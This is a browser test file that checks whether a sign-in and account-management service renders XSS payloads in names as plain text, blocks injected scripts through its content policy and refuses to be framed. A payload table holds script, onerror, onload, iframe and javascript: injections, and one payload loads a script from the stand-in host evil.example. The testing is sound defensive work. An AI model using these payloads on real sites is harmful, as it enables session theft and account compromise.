/**
 * Names that are code: an organization, people, a realm and a reason, each with a payload in it, on every page that can show
 * them, in a real browser under the service's own content policy. Nothing runs, nothing is reported, and the payload is read as
 * text; no page lets itself be framed.
 */
import { createServer } from "node:http";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { call } from "../support/calls.ts";
import { type EnrolledAccount, type Flow, type House, openFlow } from "../support/flow.ts";
import { reads, typeCode, typePassword } from "../support/on-screen.ts";

let flow: Flow;
let house: House;
let owner: EnrolledAccount;
let member: EnrolledAccount;

const payloads = {
	house: `Kite"'><img src=x onerror=owned(1)><script>owned(2)</script>`,
	contact: `help</a><svg/onload=owned(3)>`,
	owner: `Olga <img src=x onerror="owned(4)"> {{7*7}}`,
	member: `Max"><script src=//evil.example/x.js></script>`,
	realm: `Realm <iframe srcdoc="<script>owned(5)</script>">`,
	reason: `lost <a href="javascript:owned(6)">phone</a>`,
};

beforeAll(async () => {
	flow = await openFlow();
	house = await flow.house({ name: payloads.house, contact: payloads.contact });
	owner = await house.enrolled({ name: payloads.owner, role: "owner" });
	member = await house.enrolled({ name: payloads.member });
	await house.realm({ key: "payload", name: payloads.realm });
});
afterAll(() => flow.close());

/** Everything of the page that a payload could have done, and every report of the content policy. */
async function watch(page: Page): Promise<() => Promise<readonly string[]>> {
	const seen: string[] = [];
	page.on("dialog", (dialog) => {
		seen.push(`dialog: ${dialog.message()}`);
		return dialog.dismiss();
	});
	await page.exposeFunction("owned", (which: unknown) => void seen.push(`script ${which}`));
	await page.exposeFunction("reported", (what: string) => void seen.push(`report: ${what}`));
	await page.addInitScript(() => {
		const report: unknown = Reflect.get(window, "reported");
		document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
			if (typeof report === "function") report(`${violatedDirective} ${blockedURI}`);
		});
	});
	return async () => {
		await page.waitForLoadState("networkidle");
		const made = await page.evaluate(() =>
			[
				...document.querySelectorAll(
					"img[src='x'],svg[onload],iframe,[onerror],a[href^='javascript:'],script:not([src])",
				),
			].map((element) => `element: ${element.outerHTML}`),
		);
		return [...seen.splice(0), ...made];
	};
}

describe("a payload in a name", () => {
	afterEach(() => flow.goHome());

	it("T120 is read as text on every page, runs nowhere and makes the content policy report nothing", async () => {
		const { page } = await flow.person();
		const found = await watch(page);
		const invited = await house.invited({ name: payloads.member });
		const anyone: [string, string[]][] = [
			[house.at("/signin"), [payloads.house]],
			[house.at("/verify#token=x"), [payloads.house]],
			[house.at("/enrol#token=x"), [payloads.house]],
			[house.at("/reset#token=x"), []],
			[house.at("/reset"), []],
			[invited.link, []],
		];
		for (const [path, shown] of anyone) {
			await page.goto(path);
			for (const text of shown)
				await page
					.getByText(text)
					.first()
					.waitFor()
					.catch(() => {
						throw new Error(`${path} does not show ${text}`);
					});
			expect(await found(), path).toEqual([]);
		}

		await page.goto(house.at("/signin"));
		await typePassword(page, house, owner);
		await typeCode(page, flow.code(owner.phone));
		await page.waitForURL(/\/account/);
		await call(page, house, "users.resetSecondFactor", { ids: [member.id], reason: payloads.reason });
		const inside: [string, string[]][] = [
			["/account/profile", []],
			["/account/security", []],
			["/account/browsers", []],
			["/account/sessions", []],
			["/settings/overview", []],
			["/settings/users", [payloads.owner, payloads.member]],
			["/settings/users/new", []],
			["/settings/users/import", []],
			[`/settings/users/${member.id}`, [payloads.member]],
			["/settings/realms", [payloads.realm]],
			["/settings/policy", []],
			["/settings/audit", [payloads.owner, payloads.member, payloads.reason]],
			["/settings/organization", []],
		];
		for (const [path, shown] of inside) {
			await page.goto(house.at(path));
			for (const text of shown)
				await page
					.getByText(text)
					.first()
					.waitFor()
					.catch(() => {
						throw new Error(`${path} does not show ${text}`);
					});
			expect(await found(), path).toEqual([]);
		}
		const typed = page.getByRole("textbox").evaluateAll((all) => all.map((one) => Reflect.get(one, "value")));
		expect(await typed).toEqual(expect.arrayContaining([payloads.house, payloads.contact]));
	});
});

describe("the content policy", () => {
	afterEach(() => flow.goHome(/Content Security Policy|none\.png/));

	it("T120 stops what a changed page would run, and what it would load from elsewhere", async () => {
		const { page } = await flow.person();
		const found = await watch(page);
		await page.goto(house.at("/signin"));
		await reads(page, payloads.house);
		expect(await found()).toEqual([]);
		await page.evaluate(() => {
			const script = document.createElement("script");
			script.textContent = "owned('inline')";
			document.body.append(script);
			const holder = document.createElement("div");
			holder.innerHTML = `<img src="/none.png" onerror="owned('handler')"><a href="javascript:owned('link')">go</a>`;
			document.body.append(holder);
			holder.querySelector("a")?.click();
		});
		await expect
			.poll(async () => (await found()).filter((line) => line.startsWith("report: script-src")).length, {
				timeout: 3000,
			})
			.toBeGreaterThan(0);
		expect((await found()).filter((line) => line.startsWith("script"))).toEqual([]);
	});
});

describe("a page of somebody else", () => {
	it("T120 cannot show one of ours in a frame, whoever is signed in", async () => {
		const paths = ["/", "/signup", house.at("/signin"), house.at("/account/security"), house.at("/settings/users")];
		const frames = paths.map((path) => `<iframe src="${flow.world.origin}${path}"></iframe>`).join("");
		const server = createServer((_, answer) => answer.setHeader("content-type", "text/html").end(frames));
		await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
		const address = server.address();
		const port = typeof address === "object" && address !== null ? address.port : 0;
		const context = await flow.browser.browser.newContext();
		const page = await context.newPage();
		await page.goto(`http://127.0.0.1:${port}/`, { waitUntil: "networkidle" });
		const inner = page.frames().slice(1);
		expect(inner).toHaveLength(paths.length);
		for (const frame of inner) {
			expect(frame.url()).toMatch(/^chrome-error:/);
			expect(await frame.locator("form,main").count()).toBe(0);
		}
		await context.close();
		await new Promise((done) => server.close(done));
	});
});
